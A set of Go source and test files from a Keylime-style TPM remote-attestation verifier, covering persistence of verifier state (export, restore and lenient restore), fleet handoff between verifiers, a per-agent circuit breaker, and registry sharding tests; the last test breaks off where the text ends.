// TestExportImportAgentsHandoff moves a subset of a live fleet between two
// running verifiers the way a ring handoff does, including the replace
// semantics for the gaining side.
func TestExportImportAgentsHandoff(t *testing.T) {
	fs := newFleetStack(t)
	pol := policyFromMachine(t, fs.m)
	src := verifier.New("", verifier.WithHTTPClient(fs.srv.Client()))
	dst := verifier.New("", verifier.WithHTTPClient(fs.srv.Client()))
	var ids []string
	for i := 0; i < 4; i++ {
		id := string(rune('a'+i)) + "gent-000-4a97-9ef7-75bd81c00000"
		ids = append(ids, id)
		if err := src.AddAgentWithAK(id, fs.srv.URL, fs.akPub, pol); err != nil {
			t.Fatalf("AddAgentWithAK: %v", err)
		}
	}
	if st := src.PollAll(context.Background()); st.Attested != 4 {
		t.Fatalf("source PollAll = %+v", st)
	}

	// Move agents 0 and 1; ExportWhere selects the "range".
	moving := map[string]bool{ids[0]: true, ids[1]: true}
	rows, err := src.ExportWhere(func(id string) bool { return moving[id] })
	if err != nil {
		t.Fatalf("ExportWhere: %v", err)
	}
	if len(rows) != 2 {
		t.Fatalf("exported %d rows, want 2", len(rows))
	}
	if skipped := dst.ImportAgents(rows, true); len(skipped) != 0 {
		t.Fatalf("ImportAgents skipped %v", skipped)
	}
	if n := src.RemoveAgents([]string{ids[0], ids[1]}); n != 2 {
		t.Fatalf("RemoveAgents removed %d, want 2", n)
	}

	// Each side sweeps only what it now owns, resuming mid-frontier.
	if st := src.PollAll(context.Background()); st.Attested != 2 {
		t.Fatalf("source PollAll after handoff = %+v", st)
	}
	if st := dst.PollAll(context.Background()); st.Attested != 2 {
		t.Fatalf("destination PollAll after handoff = %+v", st)
	}
	dstStatus, err := dst.Status(ids[0])
	if err != nil {
		t.Fatalf("Status on destination: %v", err)
	}
	if dstStatus.Attestations != 2 {
		t.Fatalf("destination attestations = %d, want 2 (1 imported + 1 new)", dstStatus.Attestations)
	}

	// replace=false keeps the resident row; replace=true overwrites it.
	stale := rows[0]
	stale.Attestations = 99
	if skipped := dst.ImportAgents([]verifier.AgentState{stale}, false); len(skipped) != 1 {
		t.Fatalf("non-replacing import of a resident row: skipped=%v", skipped)
	}
	if st, _ := dst.Status(stale.AgentID); st.Attestations == 99 {
		t.Fatal("non-replacing import overwrote the resident row")
	}
	if skipped := dst.ImportAgents([]verifier.AgentState{stale}, true); len(skipped) != 0 {
		t.Fatalf("replacing import: skipped=%v", skipped)
	}
	if st, _ := dst.Status(stale.AgentID); st.Attestations != 99 {
		t.Fatalf("replacing import kept attestations=%d, want 99", st.Attestations)
	}
}
