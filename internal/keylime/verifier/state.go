package verifier

// Verifier state persistence: real Keylime keeps its per-agent verification
// state in a database so a verifier restart does not lose the verification
// frontier (which would force a full IMA log re-fetch and re-evaluation, or
// worse, re-trust decisions). ExportState/RestoreState serialize the
// monitored-agent table — enrollment data, policy, verified prefix,
// failure history and measured-boot golden values — as JSON.

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"time"

	"repro/internal/measuredboot"
	"repro/internal/policy"
	"repro/internal/tpm"
)

// FailureState is the serialized form of a Failure.
type FailureState struct {
	Time   time.Time `json:"time"`
	Type   int       `json:"type"`
	Path   string    `json:"path,omitempty"`
	Detail string    `json:"detail"`
}

// FaultState is the serialized form of a transient Fault.
type FaultState struct {
	Time     time.Time `json:"time"`
	Attempts int       `json:"attempts"`
	Detail   string    `json:"detail"`
}

// BreakerSnapshot is the serialized circuit-breaker state, so a verifier
// restart neither forgets an open quarantine nor hot-loops a dead host.
type BreakerSnapshot struct {
	State     int       `json:"state"`
	OpenUntil time.Time `json:"open_until,omitempty"`
	IntervalS float64   `json:"interval_s,omitempty"`
	Opens     int       `json:"opens,omitempty"`
}

// AgentState is the serialized verification state of one monitored agent.
type AgentState struct {
	AgentID string `json:"agent_id"`
	URL     string `json:"url"`
	// AKPub is base64 PKIX DER.
	AKPub  string          `json:"ak_pub"`
	Policy json.RawMessage `json:"policy"`
	State  int             `json:"state"`
	Halted bool            `json:"halted"`
	// NextOffset / PrefixAggregate are the verification frontier.
	NextOffset      int            `json:"next_offset"`
	PrefixAggregate string         `json:"prefix_aggregate"`
	Attestations    int            `json:"attestations"`
	Failures        []FailureState `json:"failures,omitempty"`
	// BootGolden maps PCR index to hex digest.
	BootGolden map[int]string `json:"boot_golden,omitempty"`
	// Transient-fault tracking state.
	ConsecutiveFaults int              `json:"consecutive_faults,omitempty"`
	Faults            []FaultState     `json:"faults,omitempty"`
	Breaker           *BreakerSnapshot `json:"breaker,omitempty"`
}

// Snapshot is the verifier's full serialized agent table.
type Snapshot struct {
	Agents []AgentState `json:"agents"`
}

// ExportState snapshots the monitored-agent table shard by shard. The
// snapshot is consistent per agent (each agent is serialized under its own
// lock) but not a fleet-wide point in time: rounds completing on other
// agents while the export runs land in the snapshot or not depending on
// ordering. That matches what a database-backed verifier provides — row
// consistency, not a global transaction over the fleet.
func (v *Verifier) ExportState() (Snapshot, error) {
	var st Snapshot
	for _, a := range v.agents.snapshot() {
		a.mu.Lock()
		as, err := exportAgentLocked(a)
		a.mu.Unlock()
		if err != nil {
			return Snapshot{}, err
		}
		if as != nil {
			st.Agents = append(st.Agents, *as)
		}
	}
	return st, nil
}

// exportAgentLocked serializes one agent; a.mu must be held. Returns nil
// for an agent removed after the shard snapshot was taken.
func exportAgentLocked(a *monitored) (*AgentState, error) {
	if a.removed {
		return nil, nil
	}
	{
		polJSON, err := json.Marshal(a.pol)
		if err != nil {
			return nil, fmt.Errorf("verifier: serializing policy for %s: %w", a.id, err)
		}
		as := AgentState{
			AgentID:         a.id,
			URL:             a.url,
			AKPub:           base64.StdEncoding.EncodeToString(a.akPub),
			Policy:          polJSON,
			State:           int(a.state),
			Halted:          a.halted,
			NextOffset:      a.nextOffset,
			PrefixAggregate: hex.EncodeToString(a.prefixAggregate[:]),
			Attestations:    a.attestations,
		}
		for _, f := range a.failures {
			as.Failures = append(as.Failures, FailureState{
				Time: f.Time, Type: int(f.Type), Path: f.Path, Detail: f.Detail,
			})
		}
		as.ConsecutiveFaults = a.consecutiveFaults
		for _, f := range a.faults {
			as.Faults = append(as.Faults, FaultState{
				Time: f.Time, Attempts: f.Attempts, Detail: f.Detail,
			})
		}
		if a.breaker.state != BreakerClosed || a.breaker.opens > 0 {
			as.Breaker = &BreakerSnapshot{
				State:     int(a.breaker.state),
				OpenUntil: a.breaker.openUntil,
				IntervalS: a.breaker.interval.Seconds(),
				Opens:     a.breaker.opens,
			}
		}
		if a.bootGolden != nil {
			as.BootGolden = make(map[int]string, len(a.bootGolden))
			for pcr, d := range a.bootGolden {
				as.BootGolden[pcr] = hex.EncodeToString(d[:])
			}
		}
		return &as, nil
	}
}

// RestoreState loads a snapshot into an empty verifier; monitoring resumes
// at the persisted verification frontier.
func (v *Verifier) RestoreState(st Snapshot) error {
	if n := v.agents.len(); n != 0 {
		return fmt.Errorf("verifier: RestoreState requires an empty verifier (%d agents present)", n)
	}
	for _, as := range st.Agents {
		akPub, err := base64.StdEncoding.DecodeString(as.AKPub)
		if err != nil {
			return fmt.Errorf("verifier: restoring %s: ak_pub: %w", as.AgentID, err)
		}
		pol := policy.New()
		if len(as.Policy) > 0 {
			if err := json.Unmarshal(as.Policy, pol); err != nil {
				return fmt.Errorf("verifier: restoring %s: policy: %w", as.AgentID, err)
			}
		}
		var prefix tpm.Digest
		raw, err := hex.DecodeString(as.PrefixAggregate)
		if err != nil || len(raw) != len(prefix) {
			return fmt.Errorf("verifier: restoring %s: bad prefix aggregate", as.AgentID)
		}
		copy(prefix[:], raw)
		// Re-derive the cached parsed AK; nil on parse failure keeps the
		// pre-enrollment-cache behavior (per-round parse, quote-invalid
		// verdicts) for snapshots carrying a malformed key.
		akKey, _ := tpm.ParseAKPublic(akPub)
		a := &monitored{
			id:              as.AgentID,
			url:             as.URL,
			akPub:           akPub,
			akKey:           akKey,
			pol:             pol,
			state:           restoreStateEnum(as.State),
			halted:          as.Halted,
			nextOffset:      as.NextOffset,
			prefixAggregate: prefix,
			attestations:    as.Attestations,
		}
		for _, f := range as.Failures {
			a.failures = append(a.failures, Failure{
				Time: f.Time, Type: FailureType(f.Type), Path: f.Path, Detail: f.Detail,
			})
		}
		a.consecutiveFaults = as.ConsecutiveFaults
		for _, f := range as.Faults {
			a.faults = append(a.faults, Fault{
				Time: f.Time, Attempts: f.Attempts, Detail: f.Detail,
			})
		}
		if as.Breaker != nil {
			a.breaker = breaker{
				state:     restoreBreakerEnum(as.Breaker.State),
				openUntil: as.Breaker.OpenUntil,
				interval:  time.Duration(as.Breaker.IntervalS * float64(time.Second)),
				opens:     as.Breaker.Opens,
			}
		}
		if len(as.BootGolden) > 0 {
			g := make(measuredboot.Golden, len(as.BootGolden))
			for pcr, h := range as.BootGolden {
				var d tpm.Digest
				rawD, err := hex.DecodeString(h)
				if err != nil || len(rawD) != len(d) {
					return fmt.Errorf("verifier: restoring %s: bad golden PCR %d", as.AgentID, pcr)
				}
				copy(d[:], rawD)
				g[pcr] = d
			}
			a.bootGolden = g
		}
		if !v.agents.insert(as.AgentID, a) {
			return fmt.Errorf("verifier: restoring %s: duplicate agent in snapshot", as.AgentID)
		}
	}
	return nil
}

// restoreStateEnum converts a persisted int back to a State value,
// defaulting to StateStart for unknown values.
func restoreStateEnum(i int) State {
	s := State(i)
	switch s {
	case StateStart, StateAttesting, StateFailed, StateDegraded, StateQuarantined:
		return s
	default:
		return StateStart
	}
}

// restoreBreakerEnum converts a persisted int back to a BreakerState,
// defaulting to closed for unknown values.
func restoreBreakerEnum(i int) BreakerState {
	s := BreakerState(i)
	switch s {
	case BreakerClosed, BreakerOpen, BreakerHalfOpen:
		return s
	default:
		return BreakerClosed
	}
}
