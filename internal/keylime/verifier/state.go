package verifier

// Verifier state persistence: real Keylime keeps its per-agent verification
// state in a database so a verifier restart does not lose the verification
// frontier (which would force a full IMA log re-fetch and re-evaluation, or
// worse, re-trust decisions). ExportState/RestoreState serialize the
// monitored-agent table — enrollment data, policy, verified prefix,
// failure history and measured-boot golden values — as JSON.

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"time"

	"repro/internal/keylime/api"
	"repro/internal/keylime/dsse"
	"repro/internal/keylime/session"
	"repro/internal/measuredboot"
	"repro/internal/policy"
	"repro/internal/tpm"
)

// FailureState is the serialized form of a Failure.
type FailureState struct {
	Time   time.Time `json:"time"`
	Type   int       `json:"type"`
	Path   string    `json:"path,omitempty"`
	Detail string    `json:"detail"`
}

// FaultState is the serialized form of a transient Fault.
type FaultState struct {
	Time     time.Time `json:"time"`
	Attempts int       `json:"attempts"`
	Detail   string    `json:"detail"`
}

// BreakerSnapshot is the serialized circuit-breaker state, so a verifier
// restart neither forgets an open quarantine nor hot-loops a dead host.
type BreakerSnapshot struct {
	State     int       `json:"state"`
	OpenUntil time.Time `json:"open_until,omitempty"`
	IntervalS float64   `json:"interval_s,omitempty"`
	Opens     int       `json:"opens,omitempty"`
}

// AgentState is the serialized verification state of one monitored agent.
type AgentState struct {
	AgentID string `json:"agent_id"`
	URL     string `json:"url"`
	// AKPub is base64 PKIX DER.
	AKPub  string          `json:"ak_pub"`
	Policy json.RawMessage `json:"policy"`
	State  int             `json:"state"`
	Halted bool            `json:"halted"`
	// NextOffset / PrefixAggregate are the verification frontier.
	NextOffset      int            `json:"next_offset"`
	PrefixAggregate string         `json:"prefix_aggregate"`
	Attestations    int            `json:"attestations"`
	Failures        []FailureState `json:"failures,omitempty"`
	// BootGolden maps PCR index to hex digest.
	BootGolden map[int]string `json:"boot_golden,omitempty"`
	// Transient-fault tracking state.
	ConsecutiveFaults int              `json:"consecutive_faults,omitempty"`
	Faults            []FaultState     `json:"faults,omitempty"`
	Breaker           *BreakerSnapshot `json:"breaker,omitempty"`
	// Rollout state: the active policy's generation and the shadow slot.
	// Persisting both means a verifier restart mid-rollout resumes shadow
	// evaluation (and generation idempotency) instead of silently dropping
	// the candidate.
	PolicyGeneration uint64 `json:"policy_generation,omitempty"`
	// PolicyEnvelope is the DSSE envelope that sealed the active policy's
	// rollout bundle (chain-of-custody provenance), absent for unmanaged
	// or rolled-back policies. It is carried opaque but must at least
	// parse as an envelope: an undecodable one is a corrupt row.
	PolicyEnvelope    json.RawMessage `json:"policy_envelope,omitempty"`
	ShadowGeneration  uint64          `json:"shadow_generation,omitempty"`
	ShadowPolicy      json.RawMessage `json:"shadow_policy,omitempty"`
	ShadowRounds      int             `json:"shadow_rounds,omitempty"`
	ShadowCleanRounds int             `json:"shadow_clean_rounds,omitempty"`
	ShadowWouldFail   int             `json:"shadow_would_fail,omitempty"`
	ShadowWouldPass   int             `json:"shadow_would_pass,omitempty"`
	// Attestation-session state (see session.go). A restored session is
	// NEVER resumed on the MAC fast path: restoreAgent marks it
	// force-full, so the restoring verifier (restart or cluster
	// failover) renegotiates via a full quote before trusting any
	// session MAC — a replicated session must not let a new owner accept
	// downgraded evidence it never verified the provenance of.
	SessionID          string     `json:"session_id,omitempty"`
	SessionKey         string     `json:"session_key,omitempty"`
	SessionEstablished *time.Time `json:"session_established,omitempty"`
	SessionRounds      int        `json:"session_rounds,omitempty"`
	SessionComposite   string     `json:"session_composite,omitempty"`
	SessionTotal       int        `json:"session_total,omitempty"`
	LastCheckLevel     int        `json:"last_check_level,omitempty"`
}

// Snapshot is the verifier's full serialized agent table.
type Snapshot struct {
	Agents []AgentState `json:"agents"`
}

// ExportState snapshots the monitored-agent table shard by shard. The
// snapshot is consistent per agent (each agent is serialized under its own
// lock) but not a fleet-wide point in time: rounds completing on other
// agents while the export runs land in the snapshot or not depending on
// ordering. That matches what a database-backed verifier provides — row
// consistency, not a global transaction over the fleet.
func (v *Verifier) ExportState() (Snapshot, error) {
	var st Snapshot
	for _, a := range v.agents.snapshot() {
		a.mu.Lock()
		as, err := exportAgentLocked(a)
		a.mu.Unlock()
		if err != nil {
			return Snapshot{}, err
		}
		if as != nil {
			st.Agents = append(st.Agents, *as)
		}
	}
	return st, nil
}

// exportAgentLocked serializes one agent; a.mu must be held. Returns nil
// for an agent removed after the shard snapshot was taken.
func exportAgentLocked(a *monitored) (*AgentState, error) {
	if a.removed {
		return nil, nil
	}
	{
		polJSON, err := json.Marshal(a.pol)
		if err != nil {
			return nil, fmt.Errorf("verifier: serializing policy for %s: %w", a.id, err)
		}
		as := AgentState{
			AgentID:         a.id,
			URL:             a.url,
			AKPub:           base64.StdEncoding.EncodeToString(a.akPub),
			Policy:          polJSON,
			State:           int(a.state),
			Halted:          a.halted,
			NextOffset:      a.nextOffset,
			PrefixAggregate: hex.EncodeToString(a.prefixAggregate[:]),
			Attestations:    a.attestations,
		}
		for _, f := range a.failures {
			as.Failures = append(as.Failures, FailureState{
				Time: f.Time, Type: int(f.Type), Path: f.Path, Detail: f.Detail,
			})
		}
		as.ConsecutiveFaults = a.consecutiveFaults
		for _, f := range a.faults {
			as.Faults = append(as.Faults, FaultState{
				Time: f.Time, Attempts: f.Attempts, Detail: f.Detail,
			})
		}
		if a.breaker.state != BreakerClosed || a.breaker.opens > 0 {
			as.Breaker = &BreakerSnapshot{
				State:     int(a.breaker.state),
				OpenUntil: a.breaker.openUntil,
				IntervalS: a.breaker.interval.Seconds(),
				Opens:     a.breaker.opens,
			}
		}
		if a.bootGolden != nil {
			as.BootGolden = make(map[int]string, len(a.bootGolden))
			for pcr, d := range a.bootGolden {
				as.BootGolden[pcr] = hex.EncodeToString(d[:])
			}
		}
		as.PolicyGeneration = a.policyGen
		as.PolicyEnvelope = a.polEnvelope
		as.LastCheckLevel = int(a.lastCheck)
		if s := a.sess; s != nil {
			as.SessionID = hex.EncodeToString(s.id[:])
			as.SessionKey = base64.StdEncoding.EncodeToString(s.key[:])
			t := s.established
			as.SessionEstablished = &t
			as.SessionRounds = s.roundsSinceFull
			as.SessionComposite = hex.EncodeToString(s.composite[:])
			as.SessionTotal = s.total
		}
		if a.shadowPol != nil {
			shadowJSON, err := json.Marshal(a.shadowPol)
			if err != nil {
				return nil, fmt.Errorf("verifier: serializing shadow policy for %s: %w", a.id, err)
			}
			as.ShadowPolicy = shadowJSON
			as.ShadowGeneration = a.shadowGen
			as.ShadowRounds = a.shadowRounds
			as.ShadowCleanRounds = a.shadowClean
			as.ShadowWouldFail = a.shadowWouldFail
			as.ShadowWouldPass = a.shadowWouldPass
		}
		return &as, nil
	}
}

// AgentCount reports the number of agents in the monitored table.
func (v *Verifier) AgentCount() int { return v.agents.len() }

// ExportDirty drains the dirty-agent set and serializes only those rows:
// the incremental counterpart of ExportState, sized to what one sweep
// actually changed instead of the whole fleet. It returns the changed
// agents' states plus the IDs of agents that were removed (or vanished)
// since the last export. On a serialization error nothing is drained —
// every ID is re-marked dirty so no mutation is lost to a failed persist.
func (v *Verifier) ExportDirty() (changed []AgentState, removed []string, err error) {
	v.dirtyMu.Lock()
	ids := make([]string, 0, len(v.dirty))
	for id := range v.dirty {
		ids = append(ids, id)
	}
	v.dirty = make(map[string]struct{})
	v.dirtyMu.Unlock()

	for _, id := range ids {
		a, ok := v.agents.get(id)
		if !ok {
			removed = append(removed, id)
			continue
		}
		a.mu.Lock()
		as, aerr := exportAgentLocked(a)
		a.mu.Unlock()
		if aerr != nil {
			v.dirtyMu.Lock()
			for _, rid := range ids {
				v.dirty[rid] = struct{}{}
			}
			v.dirtyMu.Unlock()
			return nil, nil, aerr
		}
		if as == nil {
			removed = append(removed, id)
			continue
		}
		changed = append(changed, *as)
	}
	return changed, removed, nil
}

// RestoreError reports one snapshot row skipped by a lenient restore.
type RestoreError struct {
	AgentID string
	// Field names the AgentState field that failed decoding (e.g.
	// "ak_pub", "policy", "prefix_aggregate"), empty when the failure was
	// not field-specific (duplicate row).
	Field string
	Err   error
}

func (e RestoreError) Error() string {
	if e.Field != "" {
		return fmt.Sprintf("verifier: restoring %s: field %s: %v", e.AgentID, e.Field, e.Err)
	}
	return fmt.Sprintf("verifier: restoring %s: %v", e.AgentID, e.Err)
}

func (e RestoreError) Unwrap() error { return e.Err }

// fieldErr tags a restore failure with the snapshot field that caused it,
// so lenient restores can report which field of which row was corrupt.
type fieldErr struct {
	field string
	err   error
}

func (e fieldErr) Error() string { return fmt.Sprintf("%s: %v", e.field, e.err) }
func (e fieldErr) Unwrap() error { return e.err }

// RestoreState loads a snapshot into an empty verifier; monitoring resumes
// at the persisted verification frontier. One malformed row aborts the
// whole restore; use RestoreStateLenient to skip-and-report instead.
func (v *Verifier) RestoreState(st Snapshot) error {
	_, err := v.restoreState(st, false)
	return err
}

// RestoreStateLenient loads a snapshot, skipping (and reporting) corrupt
// rows instead of aborting: a single bad record must not keep the entire
// fleet unmonitored. Every intact agent resumes at its persisted
// frontier; the returned slice lists the rows that were skipped.
func (v *Verifier) RestoreStateLenient(st Snapshot) ([]RestoreError, error) {
	return v.restoreState(st, true)
}

func (v *Verifier) restoreState(st Snapshot, lenient bool) ([]RestoreError, error) {
	if n := v.agents.len(); n != 0 {
		return nil, fmt.Errorf("verifier: RestoreState requires an empty verifier (%d agents present)", n)
	}
	var skipped []RestoreError
	for _, as := range st.Agents {
		a, err := restoreAgent(as)
		if err == nil && !v.agents.insert(as.AgentID, a) {
			err = fmt.Errorf("duplicate agent in snapshot")
		}
		if err != nil {
			if !lenient {
				return nil, fmt.Errorf("verifier: restoring %s: %w", as.AgentID, err)
			}
			skipped = append(skipped, newRestoreError(as.AgentID, err))
		}
	}
	return skipped, nil
}

// newRestoreError builds the skip report for one row, lifting the field
// name out of a fieldErr when the failure was field-specific.
func newRestoreError(agentID string, err error) RestoreError {
	re := RestoreError{AgentID: agentID, Err: err}
	var fe fieldErr
	if errors.As(err, &fe) {
		re.Field = fe.field
		re.Err = fe.err
	}
	return re
}

// restoreAgent deserializes one snapshot row into a monitored agent.
func restoreAgent(as AgentState) (*monitored, error) {
	if as.AgentID == "" {
		return nil, fieldErr{"agent_id", fmt.Errorf("missing agent id")}
	}
	akPub, err := base64.StdEncoding.DecodeString(as.AKPub)
	if err != nil {
		return nil, fieldErr{"ak_pub", err}
	}
	pol := policy.New()
	if len(as.Policy) > 0 {
		if err := json.Unmarshal(as.Policy, pol); err != nil {
			return nil, fieldErr{"policy", err}
		}
	}
	var prefix tpm.Digest
	raw, err := hex.DecodeString(as.PrefixAggregate)
	if err != nil || len(raw) != len(prefix) {
		return nil, fieldErr{"prefix_aggregate", fmt.Errorf("bad hex digest (%d bytes, want %d)", len(raw), len(prefix))}
	}
	copy(prefix[:], raw)
	// Re-derive the cached parsed AK; nil on parse failure keeps the
	// pre-enrollment-cache behavior (per-round parse, quote-invalid
	// verdicts) for snapshots carrying a malformed key.
	akKey, _ := tpm.ParseAKPublic(akPub)
	a := &monitored{
		id:              as.AgentID,
		url:             as.URL,
		akPub:           akPub,
		akKey:           akKey,
		akName:          tpm.AKName(akPub),
		attestURL:       as.URL + api.AttestPath,
		pol:             pol,
		state:           restoreStateEnum(as.State),
		halted:          as.Halted,
		nextOffset:      as.NextOffset,
		prefixAggregate: prefix,
		attestations:    as.Attestations,
		lastCheck:       restoreCheckLevelEnum(as.LastCheckLevel),
	}
	a.sess = restoreSession(as)
	for _, f := range as.Failures {
		a.failures = append(a.failures, Failure{
			Time: f.Time, Type: FailureType(f.Type), Path: f.Path, Detail: f.Detail,
		})
	}
	a.consecutiveFaults = as.ConsecutiveFaults
	for _, f := range as.Faults {
		a.faults = append(a.faults, Fault{
			Time: f.Time, Attempts: f.Attempts, Detail: f.Detail,
		})
	}
	if as.Breaker != nil {
		a.breaker = breaker{
			state:     restoreBreakerEnum(as.Breaker.State),
			openUntil: as.Breaker.OpenUntil,
			interval:  time.Duration(as.Breaker.IntervalS * float64(time.Second)),
			opens:     as.Breaker.Opens,
		}
	}
	a.policyGen = as.PolicyGeneration
	if len(as.PolicyEnvelope) > 0 {
		if _, err := dsse.Decode(as.PolicyEnvelope); err != nil {
			return nil, fieldErr{"policy_envelope", err}
		}
		a.polEnvelope = append(json.RawMessage(nil), as.PolicyEnvelope...)
	}
	if len(as.ShadowPolicy) > 0 {
		shadow := policy.New()
		if err := json.Unmarshal(as.ShadowPolicy, shadow); err != nil {
			return nil, fieldErr{"shadow_policy", err}
		}
		a.shadowPol = shadow
		a.shadowGen = as.ShadowGeneration
		a.shadowRounds = as.ShadowRounds
		a.shadowClean = as.ShadowCleanRounds
		a.shadowWouldFail = as.ShadowWouldFail
		a.shadowWouldPass = as.ShadowWouldPass
	}
	if len(as.BootGolden) > 0 {
		g := make(measuredboot.Golden, len(as.BootGolden))
		for pcr, h := range as.BootGolden {
			var d tpm.Digest
			rawD, err := hex.DecodeString(h)
			if err != nil || len(rawD) != len(d) {
				return nil, fieldErr{"boot_golden", fmt.Errorf("bad golden PCR %d", pcr)}
			}
			copy(d[:], rawD)
			g[pcr] = d
		}
		a.bootGolden = g
	}
	return a, nil
}

// restoreSession rebuilds the persisted session, always marked force-full:
// this verifier did not negotiate it, so the next round must renegotiate
// via a full quote instead of trusting the replicated MAC state blind. A
// malformed session row is dropped (nil) rather than failing the agent —
// sessions are disposable and renegotiate on the next round anyway.
func restoreSession(as AgentState) *verifierSession {
	if as.SessionID == "" {
		return nil
	}
	idRaw, err := hex.DecodeString(as.SessionID)
	if err != nil || len(idRaw) != session.IDSize {
		return nil
	}
	keyRaw, err := base64.StdEncoding.DecodeString(as.SessionKey)
	if err != nil || len(keyRaw) != session.KeySize {
		return nil
	}
	compRaw, err := hex.DecodeString(as.SessionComposite)
	if err != nil || len(compRaw) != len(tpm.Digest{}) {
		return nil
	}
	s := &verifierSession{
		roundsSinceFull: as.SessionRounds,
		total:           as.SessionTotal,
		forceFull:       true,
		forceReason:     "restored from snapshot",
	}
	copy(s.id[:], idRaw)
	copy(s.key[:], keyRaw)
	copy(s.composite[:], compRaw)
	s.mac = session.NewMACer(s.key[:])
	if as.SessionEstablished != nil {
		s.established = *as.SessionEstablished
	}
	return s
}

// restoreCheckLevelEnum converts a persisted int back to a CheckLevel,
// defaulting to CheckNone for unknown values.
func restoreCheckLevelEnum(i int) CheckLevel {
	c := CheckLevel(i)
	switch c {
	case CheckNone, CheckFull, CheckSession, CheckForcedFull:
		return c
	default:
		return CheckNone
	}
}

// restoreStateEnum converts a persisted int back to a State value,
// defaulting to StateStart for unknown values.
func restoreStateEnum(i int) State {
	s := State(i)
	switch s {
	case StateStart, StateAttesting, StateFailed, StateDegraded, StateQuarantined:
		return s
	default:
		return StateStart
	}
}

// restoreBreakerEnum converts a persisted int back to a BreakerState,
// defaulting to closed for unknown values.
func restoreBreakerEnum(i int) BreakerState {
	s := BreakerState(i)
	switch s {
	case BreakerClosed, BreakerOpen, BreakerHalfOpen:
		return s
	default:
		return BreakerClosed
	}
}
