package verifier

// Per-agent circuit breaker: a persistently unreachable agent must not be
// hot-looped (wasting fleet poll budget on dead hosts) nor halted (the
// paper's P2 blind window). After BreakerConfig.Threshold consecutive
// faulted rounds the breaker opens and the agent is quarantined; it is
// re-probed at an exponentially growing, capped interval, and a single
// successful round closes the breaker and resumes normal polling.

import (
	"fmt"
	"time"
)

// BreakerState is the circuit-breaker state of one agent.
type BreakerState int

// Breaker states.
const (
	// BreakerClosed: normal polling.
	BreakerClosed BreakerState = iota
	// BreakerOpen: the agent is quarantined; rounds are skipped until the
	// reprobe deadline.
	BreakerOpen
	// BreakerHalfOpen: the reprobe deadline passed; the next round is a
	// probe that either closes or re-opens the breaker.
	BreakerHalfOpen
)

var breakerNames = map[BreakerState]string{
	BreakerClosed:   "closed",
	BreakerOpen:     "open",
	BreakerHalfOpen: "half-open",
}

// String returns the breaker state label.
func (s BreakerState) String() string {
	if n, ok := breakerNames[s]; ok {
		return n
	}
	return fmt.Sprintf("breaker(%d)", int(s))
}

// BreakerConfig tunes the per-agent circuit breaker.
type BreakerConfig struct {
	// Threshold is the consecutive-fault count that opens the breaker
	// (default 5). Zero or negative disables quarantining entirely.
	Threshold int
	// InitialInterval is the first reprobe delay (default 1 min).
	InitialInterval time.Duration
	// MaxInterval caps the exponential reprobe growth (default 15 min),
	// so a long outage never turns into a multi-hour blind spot.
	MaxInterval time.Duration
}

// withDefaults fills zero fields with the default configuration. A
// Threshold that was explicitly set negative stays disabled.
func (c BreakerConfig) withDefaults() BreakerConfig {
	if c.Threshold == 0 {
		c.Threshold = 5
	}
	if c.InitialInterval <= 0 {
		c.InitialInterval = time.Minute
	}
	if c.MaxInterval < c.InitialInterval {
		c.MaxInterval = 15 * time.Minute
	}
	return c
}

// breaker is the per-agent circuit state. All methods are called with the
// owning agent's mutex (monitored.mu) held.
type breaker struct {
	state     BreakerState
	openUntil time.Time
	interval  time.Duration
	opens     int
}

// allow reports whether a round may run now. Transitioning Open→HalfOpen
// happens here, when the reprobe deadline has passed.
func (b *breaker) allow(now time.Time) bool {
	if b.state != BreakerOpen {
		return true
	}
	if now.Before(b.openUntil) {
		return false
	}
	b.state = BreakerHalfOpen
	return true
}

// recordFault updates the breaker after a faulted round and reports
// whether the breaker is (still) open afterwards. A failed half-open probe
// re-opens with a doubled, capped interval.
func (b *breaker) recordFault(now time.Time, cfg BreakerConfig, consecutiveFaults int) bool {
	if cfg.Threshold <= 0 {
		return false
	}
	switch b.state {
	case BreakerHalfOpen:
		b.interval *= 2
		if b.interval > cfg.MaxInterval {
			b.interval = cfg.MaxInterval
		}
		b.state = BreakerOpen
		b.openUntil = now.Add(b.interval)
		b.opens++
		return true
	case BreakerClosed:
		if consecutiveFaults >= cfg.Threshold {
			b.interval = cfg.InitialInterval
			b.state = BreakerOpen
			b.openUntil = now.Add(b.interval)
			b.opens++
			return true
		}
	}
	return false
}

// recordSuccess closes the breaker after any successful fetch.
func (b *breaker) recordSuccess() {
	b.state = BreakerClosed
	b.openUntil = time.Time{}
	b.interval = 0
}
