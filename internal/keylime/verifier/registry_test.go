package verifier

import (
	"fmt"
	"testing"
)

func TestRegistryInsertGetRemove(t *testing.T) {
	r := newRegistry()
	if _, ok := r.get("a"); ok {
		t.Fatal("get on empty registry succeeded")
	}
	a := &monitored{id: "a"}
	if !r.insert("a", a) {
		t.Fatal("insert failed on free ID")
	}
	if r.insert("a", &monitored{id: "a"}) {
		t.Fatal("duplicate insert succeeded")
	}
	got, ok := r.get("a")
	if !ok || got != a {
		t.Fatalf("get = %v, %v; want the inserted agent", got, ok)
	}
	if n := r.len(); n != 1 {
		t.Fatalf("len = %d, want 1", n)
	}
	removed, ok := r.remove("a")
	if !ok || removed != a {
		t.Fatalf("remove = %v, %v; want the inserted agent", removed, ok)
	}
	if _, ok := r.remove("a"); ok {
		t.Fatal("second remove succeeded")
	}
	if n := r.len(); n != 0 {
		t.Fatalf("len after remove = %d, want 0", n)
	}
}

func TestRegistryIDsAndSnapshot(t *testing.T) {
	r := newRegistry()
	want := map[string]bool{}
	for i := 0; i < 500; i++ {
		id := fmt.Sprintf("agent-%03d", i)
		want[id] = true
		if !r.insert(id, &monitored{id: id}) {
			t.Fatalf("insert %s failed", id)
		}
	}
	ids := r.ids()
	if len(ids) != len(want) {
		t.Fatalf("ids returned %d entries, want %d", len(ids), len(want))
	}
	for _, id := range ids {
		if !want[id] {
			t.Fatalf("ids returned unknown entry %q", id)
		}
	}
	snap := r.snapshot()
	if len(snap) != len(want) {
		t.Fatalf("snapshot returned %d entries, want %d", len(snap), len(want))
	}
	for _, a := range snap {
		if !want[a.id] {
			t.Fatalf("snapshot returned unknown agent %q", a.id)
		}
	}
}

// TestRegistryShardDistribution enrolls 10k UUID-shaped agent IDs and
// checks the FNV-1a striping spreads them: no shard may hold more than
// twice the mean. A skewed hash would quietly recreate the global-lock
// contention the shards exist to remove.
func TestRegistryShardDistribution(t *testing.T) {
	const fleet = 10000
	var counts [shardCount]int
